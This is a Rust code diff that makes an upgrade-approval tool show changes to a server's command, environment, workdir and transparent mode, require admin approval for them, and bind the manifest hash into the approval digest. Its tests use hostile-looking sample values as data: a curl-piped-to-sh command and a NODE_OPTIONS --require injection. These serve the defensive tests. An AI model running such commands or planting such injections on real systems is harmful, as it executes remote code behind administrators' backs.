@@ -29,7 +29,14 @@ pub struct Entitlements {
     tools: Option<BTreeSet<String>>,
     limits: Limits,
     private_ranges: BTreeMap<IpNet, String>,
+    /// What the server runs and how: command, each env variable with its value, workdir,
+    /// transparent mode; one line each, as the diff shows them.
+    runs: BTreeSet<String>,
 }
+
+/// The prefixes of the diff's lines about what the server runs: any change of them (even a
+/// removal: dropping an env variable changes what runs) needs the admin's approval.
+const RUN_LINES: [&str; 4] = ["command ", "env ", "workdir ", "transparent "];
 
 /// The entitlements one version has and the other has not.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -68,6 +75,7 @@ impl Entitlements {
             tools,
             limits: manifest.limits.unwrap_or_default(),
             private_ranges,
+            runs: runs(manifest),
         }
     }
 
@@ -190,6 +198,7 @@ impl Entitlements {
                 .keys()
                 .map(|r| format!("private range {r}")),
         );
+        lines.extend(self.runs.iter().cloned());
         lines
     }
 }
@@ -197,6 +206,13 @@ impl Entitlements {
 impl EntitlementDiff {
     pub fn adds_any(&self) -> bool {
         !self.added.is_empty()
+    }
+
+    /// Whether an upgrade showing this diff needs `--approve DIGEST`: it adds an entitlement
+    /// or changes what the server runs (command, env, workdir, transparent mode).
+    pub fn needs_approval(&self) -> bool {
+        let runs = |l: &String| RUN_LINES.iter().any(|p| l.starts_with(p));
+        self.adds_any() || self.removed.iter().any(runs)
     }
 
     /// `+ egress api.example.com:443`, `- tool foo`: additions first.
@@ -210,9 +226,19 @@ impl EntitlementDiff {
         lines.join("\n")
     }
 
-    /// The first 16 hex digits of the sha256 of this diff bound to the server, both versions
-    /// and the new image digest: what `upgrade --approve DIGEST` must quote.
-    pub fn digest(&self, name: &str, from: &str, to: &str, image_digest: &str) -> String {
+    /// The first 16 hex digits of the sha256 of this diff bound to the server, both versions,
+    /// the new image digest and the new manifest (`Entry::manifest_json`): what `upgrade
+    /// --approve DIGEST` must quote. The manifest's hash makes a re-signed entry with the same
+    /// version and image but another manifest miss a digest given for the old one.
+    // CONTRACT: takes the new manifest's JSON besides the contract's four parts.
+    pub fn digest(
+        &self,
+        name: &str,
+        from: &str,
+        to: &str,
+        image_digest: &str,
+        manifest_json: &str,
+    ) -> String {
         // A JSON array keeps the parts apart: no choice of names can make two different
         // inputs encode alike.
         let bound = serde_json::json!([
@@ -221,12 +247,32 @@ impl EntitlementDiff {
             from,
             to,
             image_digest,
+            hex::encode(Sha256::digest(manifest_json.as_bytes())),
             self.added,
             self.removed
         ]);
         let hash = Sha256::digest(bound.to_string().as_bytes());
         hex::encode(hash)[..16].to_owned()
     }
+}
+
+/// The diff's lines for what the server runs; every value escaped.
+fn runs(manifest: &Manifest) -> BTreeSet<String> {
+    let mut lines = BTreeSet::new();
+    lines.insert(match &manifest.command {
+        None => "command: the image's".to_owned(),
+        Some(argv) => {
+            let argv: Vec<String> = argv.iter().map(|a| format!("\"{}\"", escape(a))).collect();
+            format!("command {}", argv.join(" "))
+        }
+    });
+    lines.extend((manifest.env.iter()).map(|(k, v)| format!("env {}={}", escape(k), escape(v))));
+    lines.insert(match &manifest.workdir {
+        None => "workdir: the image's".to_owned(),
+        Some(dir) => format!("workdir {}", escape(dir)),
+    });
+    lines.insert(format!("transparent {}", manifest.transparent_mode()));
+    lines
 }
 
 fn injection(inject: &Inject) -> String {
@@ -341,6 +387,7 @@ mod tests {
         });
         assert!(!d.adds_any(), "{d:?}");
         assert_eq!(d.removed.len(), 5, "{d:?}");
+        assert!(!d.needs_approval(), "{d:?}");
         assert!(
             d.render().lines().all(|l| l.starts_with("- ")),
             "{}",
@@ -348,6 +395,7 @@ mod tests {
         );
         let unchanged = diff(|_| {});
         assert!(!unchanged.adds_any());
+        assert!(!unchanged.needs_approval());
         assert_eq!(unchanged.render(), "(no change in entitlements)");
     }
 
@@ -364,25 +412,58 @@ mod tests {
     fn the_digest_changes_with_each_bound_input() {
         let d = diff(|m| push(&mut m["tools"], "other".into()));
         let img = format!("sha256:{}", "a".repeat(64));
-        let digest = d.digest("srv", "1.0.0", "1.1.0", &img);
+        let digest = d.digest("srv", "1.0.0", "1.1.0", &img, "{}");
         assert_eq!(digest.len(), 16);
-        assert_eq!(digest, d.digest("srv", "1.0.0", "1.1.0", &img));
+        assert_eq!(digest, d.digest("srv", "1.0.0", "1.1.0", &img, "{}"));
         let other_img = format!("sha256:{}", "b".repeat(64));
         let others = [
-            d.digest("srv2", "1.0.0", "1.1.0", &img),
-            d.digest("srv", "1.0.1", "1.1.0", &img),
-            d.digest("srv", "1.0.0", "1.1.1", &img),
-            d.digest("srv", "1.0.0", "1.1.0", &other_img),
-            diff(|m| push(&mut m["tools"], "another".into())).digest("srv", "1.0.0", "1.1.0", &img),
+            d.digest("srv2", "1.0.0", "1.1.0", &img, "{}"),
+            d.digest("srv", "1.0.1", "1.1.0", &img, "{}"),
+            d.digest("srv", "1.0.0", "1.1.1", &img, "{}"),
+            d.digest("srv", "1.0.0", "1.1.0", &other_img, "{}"),
+            diff(|m| push(&mut m["tools"], "another".into()))
+                .digest("srv", "1.0.0", "1.1.0", &img, "{}"),
+            // A re-signed entry: same version and image, another manifest.
+            d.digest("srv", "1.0.0", "1.1.0", &img, r#"{"command":["/bin/x"]}"#),
         ];
         for o in &others {
             assert_ne!(o, &digest);
         }
         // Moving text between parts is a different input too.
         assert_ne!(
-            d.digest("a", "b1", "c", &img),
-            d.digest("ab", "1", "c", &img)
+            d.digest("a", "b1", "c", &img, "{}"),
+            d.digest("ab", "1", "c", &img, "{}")
         );
+    }
+
+    /// What the server runs (`command`, `env`, `workdir`) and `transparent` are in the diff
+    /// and need `--approve`: otherwise an upgrade changing only them would pass with `--yes`
+    /// as "(no change in entitlements)" (say `NODE_OPTIONS=--require …`).
+    #[test]
+    fn a_change_of_command_env_workdir_or_transparent_shows_in_the_diff_and_needs_approval() {
+        for (field, value) in [
+            (
+                "command",
+                serde_json::json!(["/bin/sh", "-c", "curl https://api.example.com/x | sh"]),
+            ),
+            (
+                "env",
+                serde_json::json!({"NODE_OPTIONS": "--require /tmp/x.js"}),
+            ),
+            ("workdir", serde_json::json!("/tmp")),
+            ("transparent", serde_json::json!(false)),
+        ] {
+            let d = diff(|m| m[field] = value.clone());
+            assert_ne!(
+                d.render(),
+                "(no change in entitlements)",
+                "changing {field} is invisible to the admin and to the approval digest"
+            );
+            assert!(
+                d.needs_approval(),
+                "changing {field} passes with --yes: {d:?}"
+            );
+        }
     }
 
     #[test]
